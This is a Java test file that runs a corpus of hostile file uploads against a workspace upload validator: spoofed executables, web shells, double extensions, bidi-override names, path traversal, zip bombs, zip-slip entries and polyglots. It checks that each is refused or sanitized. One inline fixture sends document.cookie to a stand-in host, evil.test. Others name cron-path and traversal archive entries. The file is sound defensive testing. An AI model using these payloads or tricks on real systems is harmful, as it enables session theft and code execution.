package io.clientworkspace.file;

import io.clientworkspace.ValidationException;
import io.clientworkspace.activity.ActivityEntry;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.OptionalInt;
import java.util.function.Supplier;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

import static io.clientworkspace.support.Fixture.fieldsOf;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

/**
 * What a hostile client might upload, and what the kit answers: each case is either refused with a
 * validation error that names the field and what was detected, leaving nothing behind (no blob file,
 * no file row, no activity entry, no event), or stored safely under a sanitized name with the type
 * detected from its bytes. A few legit files show the checks do not get in the way.
 */
class HostileUploadCorpusTest {

    @TempDir
    Path blobDir;

    /** What the kit must answer. */
    sealed interface Outcome {
    }

    /** Refused: a validation error on {@code field} whose message contains every one of {@code mentions}. */
    record Refused(String field, List<String> mentions) implements Outcome {
    }

    /** Stored under {@code name}, detected as {@code detectedType}. */
    record Stored(String name, String detectedType) implements Outcome {
    }

    /** One upload: its name, its bytes, the policy in force (the default one when empty) and the answer. */
    record Case(String name, Supplier<byte[]> content, ContentPolicy policy, Outcome outcome) {
    }

    private static Arguments refused(String title, String name, Supplier<byte[]> content, String field, String... mentions) {
        return refused(title, ContentPolicy.defaults(), name, content, field, mentions);
    }

    private static Arguments refused(String title, ContentPolicy policy, String name, Supplier<byte[]> content,
                                     String field, String... mentions) {
        return argumentSet(title, new Case(name, content, policy, new Refused(field, List.of(mentions))));
    }

    private static Arguments stored(String title, String name, Supplier<byte[]> content, String storedName,
                                    String detectedType) {
        return argumentSet(title, new Case(name, content, ContentPolicy.defaults(), new Stored(storedName, detectedType)));
    }

    static Stream<Arguments> corpus() {
        String exe = "application/x-msdownload";
        String never = "which is never accepted";
        return Stream.of(
                // Spoofed types: the bytes say what the name hides.
                refused("Windows executable named invoice.pdf", "invoice.pdf", Samples::windowsExecutable, "content", exe, never),
                refused("Windows executable named photo.jpg", "photo.jpg", Samples::windowsExecutable, "content", exe, never),
                refused("Windows executable named contract.docx", "contract.docx", Samples::windowsExecutable, "content", exe),
                refused("Windows executable without an extension", "invoice", Samples::windowsExecutable, "content", exe),
                refused("Linux ELF executable named image.png", "image.png", Samples::elfExecutable, "content",
                        "application/x-executable", never),
                refused("HTML page with a script named notes.txt", "notes.txt", Samples::html, "content", "text/html", never),
                refused("SVG with a script named logo.png", "logo.png", Samples::svgWithScript, "content", "image/svg+xml", never),
                refused("JavaScript library named data.csv", "data.csv", Samples::javascriptLibrary, "content",
                        "text/javascript", never),
                refused("PHP web shell named avatar.jpg", "avatar.jpg", Samples::phpShell, "content", "text/x-php", never),
                refused("PHP web shell named shell.php", "shell.php", Samples::phpShell, "content", "text/x-php", never),
                refused("shell script named install.pdf", "install.pdf", Samples::shellScript, "content", "application/x-sh", never),
                refused("Windows batch file named run.txt", "run.txt", Samples::batchFile, "content", "application/x-bat", never),
                refused("VBScript named macro.vbs", "macro.vbs", Samples::vbScript, "content", "text/x-vbscript",
                        "from its name", never),
                refused("zip archive named report.pdf", "report.pdf", () -> Samples.zip(Map.of("a.txt", Samples.text("a"))),
                        "name", "says application/pdf (.pdf)", "detected as application/zip"),
                refused("plain text named contract.docx", "contract.docx", () -> Samples.text("not a document"), "name",
                        "(.docx)", "detected as text/plain"),
                refused("unrecognisable bytes named scan.pdf", "scan.pdf", () -> new byte[] {1, 2, 3, 4, 5, 6, 7, 8, 0, 0},
                        "name", "says application/pdf (.pdf)", "detected as application/octet-stream"),
                refused("gzip archive (not on the allow-list) named backup.gz", "backup.gz", HostileUploadCorpusTest::gzip,
                        "content", "application/gzip", "which this workspace does not accept"),
                // Double extensions: the last one counts, and it is blocked whatever the bytes.
                refused("PDF named report.pdf.exe", "report.pdf.exe", Samples::pdf, "content", "application/x-dosexec",
                        "from its name"),
                refused("JPEG named photo.jpg.html", "photo.jpg.html", Samples::jpeg, "content", "text/html", "from its name"),
                refused("PDF named invoice.pdf.js", "invoice.pdf.js", Samples::pdf, "content", "text/javascript", "from its name"),
                refused("upper-case double extension SETUP.PDF.EXE", "SETUP.PDF.EXE", Samples::pdf, "content",
                        "application/x-dosexec", "from its name"),
                refused("trailing dot and spaces that Windows drops (invoice.exe. .)", "invoice.exe. .", Samples::pdf,
                        "content", "application/x-dosexec", "from its name"),
                refused("NTFS alternate data stream syntax invoice.pdf:evil.exe", "invoice.pdf:evil.exe", Samples::pdf,
                        "content", "application/x-dosexec", "from its name"),
                refused("a colon that browsers turn into _ (notes.txt:run.js)", "notes.txt:run.js",
                        () -> Samples.text("WScript.CreateObject('WScript.Shell').Run('calc');"), "content",
                        "text/javascript", "from its name"),
                refused("a URL-like query hiding .exe (report.pdf?.exe)", "report.pdf?.exe", Samples::pdf, "content",
                        "application/x-dosexec", "from its name"),
                refused("a URL-like fragment hiding .bat (notes.txt#.bat)", "notes.txt#.bat", () -> Samples.text("calc.exe\r\n"),
                        "content", "application/x-bat", "from its name"),
                // Names that hide their extension.
                refused("right-to-left override hiding .exe (invoice\u202Efdp.exe)", "invoice\u202Efdp.exe", Samples::pdf,
                        "content", "application/x-dosexec", "from its name"),
                refused("isolates hiding .exe (report\u2066.pdf\u2069.exe)", "report\u2066.pdf\u2069.exe", Samples::pdf,
                        "content", "application/x-dosexec"),
                stored("right-to-left override shown as .jpg is stored without it", "invoice\u202Egpj.pdf", Samples::pdf,
                        "invoicegpj.pdf", "application/pdf"),
                stored("NUL inside the name is removed", "a\u0000b.pdf", Samples::pdf, "ab.pdf", "application/pdf"),
                stored("control and escape characters are removed", "notes\u0007\u001b[31m.txt", () -> Samples.text("hi"),
                        "notes[31m.txt", "text/plain"),
                // Path traversal: only the last segment is kept, and the key never comes from the name.
                stored("Unix traversal ../../etc/passwd", "../../etc/passwd", () -> Samples.text("root:x:0:0::/root:/bin/sh\n"),
                        "passwd", "text/plain"),
                stored("Windows traversal ..\\..\\boot.ini", "..\\..\\boot.ini", () -> Samples.text("[boot loader]\n"),
                        "boot.ini", "text/x-ini"),
                stored("absolute path /absolute/path.pdf", "/absolute/path.pdf", Samples::pdf, "path.pdf", "application/pdf"),
                stored("Windows absolute path C:\\x\\y.pdf", "C:\\x\\y.pdf", Samples::pdf, "y.pdf", "application/pdf"),
                refused("a name that is only a parent reference (../..)", "../..", Samples::pdf, "name", "not a usable file name"),
                // Windows device names.
                stored("reserved device name CON.pdf", "CON.pdf", Samples::pdf, "_CON.pdf", "application/pdf"),
                stored("reserved device name nul.txt", "nul.txt", () -> Samples.text("x"), "_nul.txt", "text/plain"),
                stored("reserved device name LPT1 without extension", "LPT1", () -> Samples.text("x"), "_LPT1", "text/plain"),
                // Empty and oversize.
                refused("empty content", "empty.pdf", () -> new byte[0], "content", "is empty"),
                refused("empty name", "", Samples::pdf, "name", "not a usable file name"),
                refused("blank name of spaces and dots", "  . .  ", Samples::pdf, "name", "not a usable file name"),
                refused("larger than the policy's maximum size", ContentPolicy.defaults().withMaxSize(1024), "big.pdf",
                        () -> Samples.pdf("x".repeat(4000)), "content", "larger than the limit of 1024 bytes"),
                stored("a 300-byte name is cut to 255 bytes keeping its extension", "a".repeat(296) + ".pdf", Samples::pdf,
                        "a".repeat(251) + ".pdf", "application/pdf"),
                stored("a 300-byte name of 2-byte characters is cut on a character boundary", "\u00e9".repeat(148) + ".pdf",
                        Samples::pdf, "\u00e9".repeat(125) + ".pdf", "application/pdf"),
                refused("a name of 5000 characters", "x".repeat(4996) + ".pdf", Samples::pdf, "name", "far too long"),
                // Archives.
                refused("zip bomb: 1.1 GB of zeros in a 1 MB zip", "backup.zip", () -> Samples.zipBomb("zeros.bin", 1100),
                        "content", "archive that expands to more than 1073741824 bytes"),
                refused("zip with 10,001 entries", "many.zip", () -> Samples.zipWithEntries(10_001), "content",
                        "archive with more than 10000 entries"),
                refused("zip-slip entry ../../evil.sh", "photos.zip",
                        () -> Samples.zip(Map.of("../../evil.sh", Samples.shellScript())), "content",
                        "entry that escapes its folder: ../../evil.sh"),
                refused("zip-slip entry with backslashes ..\\..\\evil.bat", "photos.zip",
                        () -> Samples.zip(Map.of("ok.txt", Samples.text("ok"), "..\\..\\evil.bat", Samples.batchFile())),
                        "content", "escapes its folder: ../../evil.bat"),
                refused("zip entry with an absolute path /etc/cron.d/evil", "photos.zip",
                        () -> Samples.zip(Map.of("/etc/cron.d/evil", Samples.shellScript())), "content",
                        "escapes its folder: /etc/cron.d/evil"),
                refused("docx-like zip with a zip-slip entry", "contract.docx", () -> Samples.zip(Map.of(
                                "[Content_Types].xml", Samples.text("<Types/>"), "word/../../../evil.sh", Samples.shellScript())),
                        "content", "escapes its folder"),
                // Polyglots: what the first bytes say is what is stored, and served, so the other half never runs.
                stored("PDF header followed by an HTML page is kept as a PDF", "brochure.pdf", Samples::pdfHtmlPolyglot,
                        "brochure.pdf", "application/pdf"),
                refused("HTML page followed by a PDF named brochure.pdf", "brochure.pdf",
                        () -> Samples.concat(Samples.html(), Samples.pdf()), "content", "text/html"),
                stored("GIF/JavaScript polyglot named pixel.gif is kept as a GIF", "pixel.gif", Samples::gifJavascriptPolyglot,
                        "pixel.gif", "image/gif"),
                refused("GIF/JavaScript polyglot named pixel.js", "pixel.js", Samples::gifJavascriptPolyglot, "content",
                        "text/javascript", "from its name"),
                stored("PDF with a zip appended is kept as a PDF", "statement.pdf", Samples::pdfWithTrailingZip,
                        "statement.pdf", "application/pdf"),
                stored("script text without a signature named data.csv is kept as CSV", "data.csv",
                        () -> Samples.text("fetch('https://evil.test/?c=' + document.cookie);\n"), "data.csv", "text/csv"),
                // Legit files.
                stored("real PDF", "proposal.pdf", Samples::pdf, "proposal.pdf", "application/pdf"),
                stored("real PNG", "logo.png", Samples::png, "logo.png", "image/png"),
                stored("real JPEG", "photo.jpg", Samples::jpeg, "photo.jpg", "image/jpeg"),
                stored("CSV", "invoices.csv", Samples::csv, "invoices.csv", "text/csv"),
                stored("Word document (zip with [Content_Types].xml and word/document.xml)", "contract.docx", Samples::docx,
                        "contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
                stored("zip archive of photos", "photos.zip",
                        () -> Samples.zip(Map.of("a/one.png", Samples.png(), "a/two.jpg", Samples.jpeg())), "photos.zip",
                        "application/zip"),
                stored("Unicode name in decomposed form is stored composed", "Cafe\u0301 menu.pdf", Samples::pdf,
                        "Caf\u00e9 menu.pdf", "application/pdf"));
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void eachUploadIsRefusedWithNothingLeftBehindOrStoredSafely(Case upload) {
        FileWorld w = FileWorld.create(blobDir, b -> b.contentPolicy(upload.policy()));
        byte[] bytes = upload.content().get();
        ActivityEntry headBefore = w.f.head(w.acme());

        if (upload.outcome() instanceof Refused refused) {
            ValidationException e = w.rejects(ValidationException.class, () -> w.upload(upload.name(), bytes));

            assertThat(fieldsOf(e)).containsExactly(refused.field());
            assertThat(e.getMessage()).contains(refused.mentions());
            assertThat(w.blobFiles()).as("files in the blob directory").isEmpty();
            assertThat(w.allFiles(w.f.tenant.id(), w.acme())).as("file rows").isEmpty();
            assertThat(w.f.head(w.acme())).as("the activity log's head").isEqualTo(headBefore);
            assertThat(w.f.events.all()).as("events").isEmpty();
        } else if (upload.outcome() instanceof Stored stored) {
            FileAsset file = w.upload(upload.name(), bytes);

            assertThat(file.name()).isEqualTo(stored.name());
            assertThat(file.name().getBytes(StandardCharsets.UTF_8).length).isLessThanOrEqualTo(FileNames.MAX_BYTES);
            FileVersion version = w.files.versions(w.f.bob, w.acme(), file.id()).get(0);
            assertThat(version.name()).isEqualTo(stored.name());
            assertThat(version.detectedType()).isEqualTo(stored.detectedType());
            assertThat(version.size()).isEqualTo(bytes.length);
            assertThat(version.sha256()).isEqualTo(Samples.sha256(bytes));
            assertThat(version.blobKey()).matches("[0-9a-f]{32}").doesNotContain(stored.name());
            assertThat(w.download(w.f.carol, file.id(), OptionalInt.empty())).isEqualTo(bytes);
        }
    }

    private static byte[] gzip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(Samples.csv());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
